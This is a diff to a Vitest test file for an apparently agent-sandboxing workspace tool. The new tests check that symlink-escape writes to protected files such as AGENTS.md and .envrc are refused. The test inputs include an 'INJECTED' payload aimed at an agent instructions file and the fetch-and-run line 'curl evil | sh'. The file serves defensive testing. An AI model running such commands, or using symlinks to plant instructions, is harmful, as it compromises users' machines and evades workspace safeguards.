@@ -9,9 +9,9 @@
  */
 import { closeSync, existsSync, mkdirSync, openSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { GIT_REPOSITORY_SCAN_MAX_ENTRIES } from '@bastion/protocol';
+import { GIT_REPOSITORY_SCAN_MAX_ENTRIES, PROTECTED_LINK_SCAN_MAX_AGE_MS } from '@bastion/protocol';
 import { makeTempDir } from '@bastion/test-support';
-import { beforeEach, expect, it } from 'vitest';
+import { beforeEach, expect, it, vi } from 'vitest';
 import { describeAttack } from '../../../../test/support/attack.js';
 import {
   removeEmptyWorkspaceDirectory,
@@ -20,7 +20,7 @@ import {
   writeWorkspaceFile,
   WorkspaceWriteError,
 } from '../../src/workspaces/workspace-files.js';
-import { DirectoryListingCache } from '../../src/commands/directory-listing-cache.js';
+import { ProtectedLinkIndex } from '../../src/workspaces/protected-link-targets.js';
 import { hostGitFor } from '../commands/host-git.js';
 
 let base: string;
@@ -41,8 +41,8 @@ function outcome(run: () => unknown): { code: string; detail: unknown } | undefi
   return undefined;
 }
 
-const write = (path: string, text: string, listings?: DirectoryListingCache) =>
-  outcome(() => writeWorkspaceFile(resolveWritable(workspace, path, listings ? { listings } : {}), Buffer.from(text)));
+const write = (path: string, text: string, links?: ProtectedLinkIndex) =>
+  outcome(() => writeWorkspaceFile(resolveWritable(workspace, path, links ? { links } : {}), Buffer.from(text)));
 const remove = (path: string) => outcome(() => removeWorkspaceFile(resolveWritable(workspace, path)));
 const linkedFrom = (name: string) => ({ code: 'FS_PROTECTED', detail: { linkedFrom: name } });
 
@@ -111,13 +111,37 @@ describeAttack('symlink-escape', 'file tools writing through the link target of 
     expect(bytesOf('docs/new.md')).toBeUndefined();
   });
 
-  it('a link made after an earlier write was served from the listing cache is seen: the next write through it is refused', () => {
-    const listings = new DirectoryListingCache();
+  it('with the host’s index: a link a command makes is seen by the next write (scanned again after the command), and one made while a command runs by every write meanwhile', () => {
+    const links = new ProtectedLinkIndex();
     plant('docs/guide.md', 'Be nice.\n');
-    expect(write('docs/other.md', 'first\n', listings)).toBeUndefined();
+    plant('cfg/dev.envrc', 'export A=1\n');
+    expect(write('docs/other.md', 'first\n', links)).toBeUndefined();
+    links.commandStarted();
     mkdirSync(join(workspace, 'pkg'));
     symlinkSync('../docs/guide.md', join(workspace, 'pkg', 'AGENTS.md'));
-    expect(write('docs/guide.md', 'INJECTED\n', listings)).toEqual(linkedFrom(join('pkg', 'AGENTS.md')));
+    links.commandEnded();
+    expect(write('docs/guide.md', 'INJECTED\n', links)).toEqual(linkedFrom(join('pkg', 'AGENTS.md')));
+    links.commandStarted();
+    expect(write('docs/other.md', 'second\n', links)).toBeUndefined();
+    symlinkSync('cfg/dev.envrc', join(workspace, '.envrc'));
+    expect(write('cfg/dev.envrc', 'curl evil | sh\n', links)).toEqual(linkedFrom('.envrc'));
+    links.commandEnded();
+    expect(bytesOf('docs/guide.md')).toBe('Be nice.\n');
+    expect(bytesOf('cfg/dev.envrc')).toBe('export A=1\n');
+  });
+
+  it('with the host’s index: a link the user makes with no command since is seen once PROTECTED_LINK_SCAN_MAX_AGE_MS has passed', () => {
+    const links = new ProtectedLinkIndex();
+    plant('docs/guide.md', 'Be nice.\n');
+    expect(write('docs/other.md', 'first\n', links)).toBeUndefined();
+    symlinkSync('docs/guide.md', join(workspace, 'AGENTS.md'));
+    vi.useFakeTimers({ toFake: ['Date'] });
+    try {
+      vi.setSystemTime(Date.now() + PROTECTED_LINK_SCAN_MAX_AGE_MS);
+      expect(write('docs/guide.md', 'INJECTED\n', links)).toEqual(linkedFrom('AGENTS.md'));
+    } finally {
+      vi.useRealTimers();
+    }
     expect(bytesOf('docs/guide.md')).toBe('Be nice.\n');
   });
 
